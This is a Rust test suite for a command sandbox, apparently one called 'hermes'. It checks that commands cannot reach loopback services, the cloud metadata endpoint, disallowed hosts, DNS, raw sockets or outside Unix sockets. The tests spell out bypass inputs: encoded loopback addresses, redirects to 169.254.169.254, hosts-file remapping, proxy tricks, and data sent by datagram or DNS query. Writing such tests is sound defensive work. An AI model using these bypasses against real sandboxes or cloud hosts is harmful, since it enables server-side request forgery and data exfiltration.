//! Attempts to leave the session's network: none reaches a service of this
//! machine, the metadata service of a cloud, or a host that is not allowed.

use std::io::Read as _;
use std::net::UdpSocket;
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::time::Duration;

use super::everyone;
use super::server::HostServer;
use super::user::{TestUser, assert_stopped, skip, terminal};

/// Fetches every given URL, directly and through the proxy.
const CLIENT: &str = "\
import sys, urllib.request

for url in sys.argv[1:]:
    for handler in ([urllib.request.ProxyHandler({})], []):
        try:
            answer = urllib.request.build_opener(*handler).open(url, timeout=5)
            print('got', url, answer.status, answer.read()[:40], flush=True)
        except Exception as error:
            print('failed', url, error, flush=True)
";

#[track_caller]
fn assert_no_answer(result: &serde_json::Value) {
    let text = result.to_string();
    assert!(!text.contains("reached the host"), "{text}");
}

everyone!(a_fetching_word_opens_nothing_for_others);
fn a_fetching_word_opens_nothing_for_others(user: &mut TestUser) {
    let server = HostServer::start();
    user.write("x.py", CLIENT);
    for word in [
        "host example.com",
        "curl -s -m 2 http://a.example.com/",
        "git ls-remote http://a.example.com/",
    ] {
        let urls = format!("{} http://upload.example.com/", server.url());
        let result = user.attempt(&format!("{word}; python3 x.py {urls}"));
        assert_no_answer(&result);
        assert_stopped(word, &result, "upload.example.com", "network:send");
    }
    server.assert_untouched();
}

everyone!(services_of_this_machine_are_not_reached);
fn services_of_this_machine_are_not_reached(user: &mut TestUser) {
    let server = HostServer::start();
    let port = server.port();
    user.write("x.py", CLIENT);
    let hosts = [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        "2130706433",
        "127.1",
        "127.0.0.2",
        "a.localhost",
        "0x7f.1",
        "017700000001",
    ];
    let urls: Vec<String> = hosts.iter().map(|host| format!("http://{host}:{port}/")).collect();
    assert_no_answer(&user.attempt(&format!("python3 x.py {}", urls.join(" "))));
    // Through the proxy, although NO_PROXY excludes these hosts.
    let tries: String = urls
        .iter()
        .flat_map(|url| {
            [
                "-x \"$HTTP_PROXY\" --noproxy ''",
                "-p -x \"$HTTP_PROXY\" --noproxy ''",
                "-x \"socks5h://${HTTP_PROXY#http://}\" --noproxy ''",
                "-x \"socks4a://${HTTP_PROXY#http://}\" --noproxy ''",
            ]
            .map(|option| format!("curl -s -m 3 -g {option} '{url}'\n"))
        })
        .collect();
    user.write("tries.sh", format!("#!/bin/sh\n{tries}"));
    assert_no_answer(&user.attempt("./tries.sh"));
    // The command itself may use the session's own loopback.
    for host in ["127.0.0.1", "localhost"] {
        let result = user.attempt(&format!("curl -s -m 3 --noproxy '' http://{host}:{port}/"));
        assert_no_answer(&result);
    }
    server.assert_untouched();
}

everyone!(a_redirect_leads_to_nothing_that_is_refused);
fn a_redirect_leads_to_nothing_that_is_refused(user: &mut TestUser) {
    let secret = HostServer::start();
    let urls = ["http://169.254.169.254/latest/meta-data/".to_owned(), secret.url()];
    let places = urls.clone();
    let server = HostServer::answering(move |path| {
        let at: usize = path.trim_start_matches('/').parse().ok()?;
        Some(format!("302 Found\r\nLocation: {}", places.get(at)?).into_bytes())
    });
    let port = server.port();
    // The user has allowed this one service.
    user.write_home(".hermes/config.yaml", format!("sandbox:\n  host_ports: [{port}]\n"));
    for at in 0..urls.len() {
        let result = user.attempt(&format!("curl -sSL -m 5 http://127.0.0.1:{port}/{at}"));
        assert_no_answer(&result);
        let result = user.attempt(&format!(
            "curl -sSL -m 5 -x \"$HTTP_PROXY\" --noproxy '' http://127.0.0.1:{port}/{at}"
        ));
        assert_no_answer(&result);
    }
    assert!(!server.seen().is_empty(), "the allowed service was reached");
    secret.assert_untouched();
    user.write("x.py", CLIENT);
    let result = user.attempt(&format!("python3 x.py http://127.0.0.1:{port}/0"));
    assert_stopped("metadata", &result, "169.254.169.254", "metadata");
}

everyone!(a_public_name_of_a_private_address_is_refused);
fn a_public_name_of_a_private_address_is_refused(user: &mut TestUser) {
    let hosts = "127.0.0.1 localhost\n127.0.0.1 downloads.example.com\n\
                 169.254.169.254 images.example.com\n::ffff:169.254.169.254 pictures.example.com\n\
                 fd00:ec2::254 files.example.com\n";
    if !user.lay_over("/etc/hosts", hosts) {
        return;
    }
    let server = HostServer::start();
    let port = server.port();
    for name in ["downloads", "images", "pictures", "files"] {
        let url = format!("http://{name}.example.com:{port}/");
        let result =
            user.attempt(&format!("curl -sS -m 5 {url}; curl -sS -m 5 --noproxy '*' {url}"));
        assert_no_answer(&result);
        assert_stopped(name, &result, "", "");
    }
    server.assert_untouched();
}

everyone!(a_process_is_judged_after_its_call_has_ended);
fn a_process_is_judged_after_its_call_has_ended(user: &mut TestUser) {
    let server = HostServer::start();
    user.write("x.py", CLIENT);
    let urls = format!("{} http://upload.example.com/", server.url());
    user.write("late.sh", format!("#!/bin/sh\nsleep 1\npython3 x.py {urls} >late.txt 2>&1\n"));
    let results = user.session(vec![
        terminal("curl -s -m 2 http://a.example.com/; (setsid ./late.sh &)"),
        terminal("./late.sh &"),
        // This one may fetch, the others may not.
        terminal("sleep 2; curl -s -m 2 http://upload.example.com/; sleep 2; cat late.txt"),
    ]);
    let output = results[2]["output"].as_str().unwrap_or_default();
    assert!(output.contains("failed http://upload.example.com/"), "{results:?}");
    assert!(!output.contains("got "), "{results:?}");
    server.assert_untouched();
}

everyone!(datagrams_and_raw_packets_do_not_leave);
fn datagrams_and_raw_packets_do_not_leave(user: &mut TestUser) {
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    socket.set_nonblocking(true).expect("a mode");
    let port = socket.local_addr().expect("an address").port();
    let own = UdpSocket::bind("0.0.0.0:0").and_then(|it| it.connect("192.0.2.1:9").map(|()| it));
    let own =
        own.and_then(|it| it.local_addr()).map_or("127.0.0.1".into(), |it| it.ip().to_string());
    user.write("x.py", format!(
        "import socket\n\
         for host in ('127.0.0.1', '{own}', '192.0.2.1', '255.255.255.255'):\n    \
         for port in ({port}, 53, 443):\n        \
         try:\n            \
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', (host, port))\n        \
         except OSError as error:\n            print(host, port, error)\n\
         for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300), (16, 3, 0), (40, 1, 0), (38, 5, 0)):\n    \
         try:\n        \
         raw = socket.socket(family, kind, protocol)\n        \
         if family != 16: print('opened', family, kind, protocol)\n    \
         except OSError as error:\n        print(family, error)\n",
    ));
    user.write("tries.sh", "#!/bin/sh\npython3 x.py; ping -c 1 -W 1 192.0.2.1; true\n");
    let result = user.attempt("./tries.sh");
    let output = result["output"].as_str().unwrap_or_default();
    assert!(output.contains("Operation not permitted"), "{result}");
    assert!(!output.contains("opened") && !output.contains("1 received"), "{result}");
    let mut bytes = [0; 64];
    assert!(socket.recv_from(&mut bytes).is_err(), "a datagram got through");
}

everyone!(names_that_are_looked_up_do_not_leave);
fn names_that_are_looked_up_do_not_leave(user: &mut TestUser) {
    // One address for each account: both may be tried at the same time.
    let address = if user.is_root() { "127.0.0.77" } else { "127.0.0.78" };
    let Ok(resolver) = UdpSocket::bind((address, 53)) else {
        skip(&format!("no name server can be had on {address}:53"));
        return;
    };
    resolver.set_read_timeout(Some(Duration::from_millis(200))).expect("a timeout");
    let settings = format!("nameserver {address}\noptions timeout:1 attempts:1\n");
    if !user.lay_over("/etc/resolv.conf", &settings) {
        return;
    }
    user.write(
        "x.py",
        "import socket, urllib.request\n\
         for name in ('a1.secret.example.com', 'a2.secret.example.com'):\n    \
         try:\n        print(socket.getaddrinfo(name, 80)[0][4])\n    \
         except OSError as error:\n        print(error)\n    \
         try:\n        urllib.request.urlopen(f'http://{name}/', timeout=5)\n    \
         except OSError as error:\n        print(error)\n\
         query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x07example\\x03com\\0\\0\\x01\\0\\x01'\n\
         for server in ('127.0.0.77', '127.0.0.78', '192.0.2.53'):\n    \
         try:\n        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (server, 53))\n    \
         except OSError as error:\n        print(error)\n",
    );
    let result = user.attempt("getent hosts a3.secret.example.com; python3 x.py");
    assert_eq!(result["exit_code"], 0, "{result}");
    // An allowed name is resolved, by hermes and by the child.
    user.attempt("curl -s -m 3 http://a4.control.example.com/");
    let mut bytes = [0; 512];
    let asked: Vec<String> = std::iter::from_fn(|| {
        let count = resolver.recv(&mut bytes).ok()?;
        Some(String::from_utf8_lossy(&bytes[..count]).into_owned())
    })
    .collect();
    assert!(asked.iter().any(|query| query.contains("control")), "{asked:?}");
    assert!(!asked.iter().any(|query| query.contains("secret")), "{asked:?}");
}

everyone!(sockets_of_programs_outside_are_not_reached);
fn sockets_of_programs_outside_are_not_reached(user: &mut TestUser) {
    let name = format!("everyday-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).expect("a name");
    let hidden = UnixListener::bind_addr(&address).expect("a socket");
    let path = user.outside().join("service.sock");
    let plain = UnixListener::bind(&path).expect("a socket");
    let open = std::os::unix::fs::PermissionsExt::from_mode(0o777);
    std::fs::set_permissions(&path, open).expect("a mode");
    user.write("x.py", format!(
        "import socket\nfor name in ('\\0{name}', '{}'):\n    \
         try:\n        socket.socket(socket.AF_UNIX).connect(name)\n        print('connected')\n    \
         except OSError as error:\n        print(error)\n",
        path.display(),
    ));
    let result = user.attempt("python3 x.py");
    let output = result["output"].as_str().unwrap_or_default();
    assert_eq!(output.matches("Errno").count(), 2, "{result}");
    for listener in [hidden, plain] {
        listener.set_nonblocking(true).expect("a mode");
        let mut text = String::new();
        let came = listener.accept().map(|(mut stream, _)| stream.read_to_string(&mut text));
        assert!(came.is_err(), "a connection got through");
    }
}
